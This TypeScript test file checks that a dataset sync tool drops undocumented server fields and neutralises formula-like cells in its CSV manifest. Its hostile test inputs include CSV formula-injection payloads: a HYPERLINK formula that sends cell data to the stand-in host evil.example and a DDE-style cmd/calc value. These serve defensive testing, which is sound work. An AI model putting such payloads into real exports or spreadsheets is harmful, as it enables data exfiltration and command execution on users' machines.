// What lands in the dataset is what the contract names (issue 15.5), against a server that adds
// fields the spec does not document (a reviewer's name, at every level of every record) and
// sends slot keys and participant refs a spreadsheet would run as formulas:
// - collection.json and set.json hold the documented fields only: nothing unknown is copied;
// - manifest.csv cells starting with = + - @ tab or CR are neutralised (' prefix, quoted), read
//   back with an independent CSV reader; SHA256SUMS still passes `sha256sum -c`.
import { editHead, readHead } from '../support/head';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MANIFEST_COLUMNS } from '../../src-main/sync/dataset';
import { verifyFolder } from '../../src-main/sync/verify';
import { listFiles, mainCollection, sha256sumCheck, sync, tempDir, useService } from '../engine/helpers';

const env = useService({ sets: 2, fileSize: 4 * 1024, slots: 3, seed: 155 });
let work: string;

beforeAll(async () => {
  work = await tempDir('dsync-contents-');
});
afterAll(async () => {
  await fs.rm(work, { recursive: true, force: true });
});

/** A marker no documented field holds: wherever it appears under DEST, an unknown field was copied. */
const REVIEWER = 'Rita Reviewer-7f3a';
const UNKNOWN = { reviewer_name: REVIEWER, internal: { reviewer_name: REVIEWER, notes: [REVIEWER] } };

/** Server-given cells a spreadsheet would evaluate, and what the manifest must show instead. */
const HOSTILE_SLOT_KEYS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", '-x', '@SUM(1+1)*cmd', '\tlead', '\rlead'];
const HOSTILE_REFS = ['@SUM(A1:A9)', '=1+1'];

type Json = Record<string, unknown>;

async function getJson(rel: string): Promise<Json> {
  const { apiKey } = mainCollection(env.svc);
  const res = await fetch(`${env.svc.deliveryBaseUrl}${rel}`, { headers: { authorization: `Bearer ${apiKey}` } });
  expect(res.status).toBe(200);
  return (await res.json()) as Json;
}

async function serveOnce(pathRe: string, body: unknown): Promise<void> {
  await env.svc.admin.addFault({ path: pathRe }, { type: 'body', status: 200, contentType: 'application/json', body: JSON.stringify(body) }, 1);
}

/** The collection detail as served, with unknown fields added at every level. */
async function collectionWithUnknownFields(): Promise<Json> {
  const body = await getJson(`/collections/${env.collectionId}`);
  const c = body.collection as Json & { spec: Json & { slots: Json[]; media_rules: Json }; quotas: Json[]; sets: Json };
  Object.assign(body, UNKNOWN);
  Object.assign(c, UNKNOWN);
  Object.assign(c.spec, UNKNOWN);
  Object.assign(c.spec.media_rules, UNKNOWN);
  for (const s of c.spec.slots) Object.assign(s, UNKNOWN);
  for (const q of c.quotas) Object.assign(q, UNKNOWN);
  c.sets.reviewed_by_reviewer_7 = 3; // an unknown count (every count must be an integer)
  return body;
}

/**
 * The sets page as served (files still point to the real file URLs), with unknown fields at
 * every level and hostile slot keys and participant refs.
 */
async function pageWithHostileValues(): Promise<Json> {
  const page = await getJson(`/collections/${env.collectionId}/sets?status=accepted&page=1&per_page=200`);
  const sets = page.sets as Array<Json & { participants: Array<Json & { quota_group: Json; consent: Json | null }>; files: Array<Json & { media: Json }> }>;
  Object.assign(page, UNKNOWN);
  let k = 0;
  let r = 0;
  for (const s of sets) {
    Object.assign(s, UNKNOWN);
    for (const p of s.participants) {
      Object.assign(p, UNKNOWN);
      Object.assign(p.quota_group, UNKNOWN);
      if (p.consent) Object.assign(p.consent, UNKNOWN);
      p.participant_ref = HOSTILE_REFS[r++ % HOSTILE_REFS.length];
    }
    for (const f of s.files) {
      Object.assign(f, UNKNOWN);
      Object.assign(f.media, UNKNOWN);
      f.slot_key = HOSTILE_SLOT_KEYS[k++ % HOSTILE_SLOT_KEYS.length];
    }
  }
  expect(k).toBe(HOSTILE_SLOT_KEYS.length); // every hostile key is served once
  return page;
}

/** RFC 4180 as written by the manifest (`,` separated, `"` quoted, `""` inside quotes); each cell says whether it was quoted. */
function readCsv(text: string): Array<Array<{ value: string; quoted: boolean }>> {
  const rows: Array<Array<{ value: string; quoted: boolean }>> = [];
  let row: Array<{ value: string; quoted: boolean }> = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') {
        if (text[i] === '"' || text[i] === '\r') throw new Error(`unquoted cell holds ${JSON.stringify(text[i])} at ${i}`);
        value += text[i++];
      }
    }
    row.push({ value, quoted });
    if (text[i] === ',') i++;
    else if (text[i] === '\n' || i >= text.length) {
      rows.push(row);
      row = [];
      i++;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} after a cell at ${i}`);
  }
  return rows;
}

describe('a server that adds undocumented fields and formula-like values', () => {
  it('DEST holds no unknown field, the manifest neutralises every formula cell, and SHA256SUMS passes', async () => {
    const { svc, collectionId } = env;
    const dest = path.join(work, 'ds');
    await serveOnce(`^/collections/${collectionId}$`, await collectionWithUnknownFields());
    await serveOnce('/sets$', await pageWithHostileValues());
    const { summary } = await sync(svc, dest);
    expect(summary.exitCode, JSON.stringify(summary.failures)).toBe(0);
    expect(summary.fatal).toBeUndefined();

    // No unknown field, and no signer name or service address, anywhere under DEST.
    const files = await listFiles(dest);
    expect(files).toContain('collection.json');
    expect(files.filter((f) => f.endsWith('/set.json'))).toHaveLength(2);
    for (const f of files) {
      if (!/\.(json|jsonl|csv)$|SHA256SUMS$/.test(f)) continue; // media bodies are the served bytes
      const text = await fs.readFile(path.join(dest, f), 'utf8');
      for (const word of [REVIEWER, 'reviewer_name', 'reviewed_by_reviewer_7', '"internal"', 'signer_name']) {
        expect(text.includes(word), `${f} holds ${word}`).toBe(false);
      }
    }
    // The documented fields are all there.
    const collection = JSON.parse(await fs.readFile(path.join(dest, 'collection.json'), 'utf8')) as Json & { spec: Json; sets: Json };
    expect(Object.keys(collection)).toEqual(['id', 'title', 'status', 'price_per_set', 'currency', 'deadline', 'created_at', 'spec', 'quotas', 'sets']);
    expect(Object.keys(collection.sets)).toEqual(['accepted', 'in_review', 'in_progress']);
    const setJson = JSON.parse(await fs.readFile(path.join(dest, files.find((f) => f.endsWith('/set.json'))!), 'utf8')) as Json & {
      participants: Json[];
      files: Json[];
    };
    expect(Object.keys(setJson)).toEqual(['id', 'status', 'submitted_at', 'accepted_at', 'updated_at', 'is_gold', 'participants', 'files']);
    expect(Object.keys(setJson.files[0]!)).toEqual(['id', 'slot_index', 'slot_key', 'filename', 'content_type', 'size_bytes', 'sha256', 'media', 'check_status']);
    expect(Object.keys(setJson.participants[0]!.consent as Json)).toEqual(['id', 'version', 'signed_at']);
    // set.json keeps the value as served (JSON is not evaluated); only the CSV neutralises.
    expect(HOSTILE_SLOT_KEYS).toContain(setJson.files[0]!.slot_key);

    // manifest.csv: header first, every formula-like cell prefixed with ' and quoted.
    const text = await fs.readFile(path.join(dest, 'manifest.csv'), 'utf8');
    const [header, ...rows] = readCsv(text);
    expect(header!.map((c) => c.value)).toEqual([...MANIFEST_COLUMNS]);
    expect(rows).toHaveLength(6);
    const col = (name: string) => MANIFEST_COLUMNS.indexOf(name as (typeof MANIFEST_COLUMNS)[number]);
    for (const row of rows) {
      expect(row).toHaveLength(MANIFEST_COLUMNS.length);
      for (const cell of row) {
        expect(cell.value, `cell ${JSON.stringify(cell.value)}`).not.toMatch(/^[=+\-@\t\r]/);
        if (cell.value.startsWith("'")) expect(cell.quoted, `cell ${JSON.stringify(cell.value)}`).toBe(true);
      }
    }
    const slotKeys = rows.map((r) => r[col('slot_key')]!.value).sort();
    expect(slotKeys).toEqual(HOSTILE_SLOT_KEYS.map((v) => `'${v}`).sort());
    for (const row of rows) {
      // Several refs joined by ";" stay one quoted cell (a ";"-separated spreadsheet must not
      // split it and start a formula at the split); the cell's start is neutralised.
      const refs = row[col('participant_refs')]!;
      expect(refs.quoted).toBe(true);
      expect(refs.value.startsWith("'")).toBe(true);
      const joined = refs.value.slice(1).split(';');
      expect(joined.length).toBeGreaterThan(1);
      for (const ref of joined) expect(HOSTILE_REFS).toContain(ref);
    }

    // The sums and verify agree with what was written.
    const check = await sha256sumCheck(dest);
    expect(check.out).not.toContain('FAILED');
    expect(check.code).toBe(0);
    const report = await verifyFolder(dest);
    expect(report).toMatchObject({ filesChecked: 6, ok: 6, missing: [], changed: [], extra: [] });
  });

  it('a manifest written before neutralisation (no format in the state) is rewritten on the next sync', async () => {
    const { svc } = env;
    const dest = path.join(work, 'old-format');
    expect((await sync(svc, dest)).summary.exitCode).toBe(0);
    expect(readHead(dest).index!.manifestFormat).toBeDefined();
    editHead(dest, (head) => {
      delete head.index!.manifestFormat;
    });
    const manifest = path.join(dest, 'manifest.csv');
    const before = (await fs.stat(manifest)).mtimeMs;
    await new Promise((r) => setTimeout(r, 20)); // a later mtime on any file system clock
    expect((await sync(svc, dest)).summary.exitCode).toBe(0);
    expect((await fs.stat(manifest)).mtimeMs).not.toBe(before);
    // ...and only once: the next no-op sync leaves it alone.
    const after = (await fs.stat(manifest)).mtimeMs;
    expect((await sync(svc, dest)).summary.exitCode).toBe(0);
    expect((await fs.stat(manifest)).mtimeMs).toBe(after);
  });
});
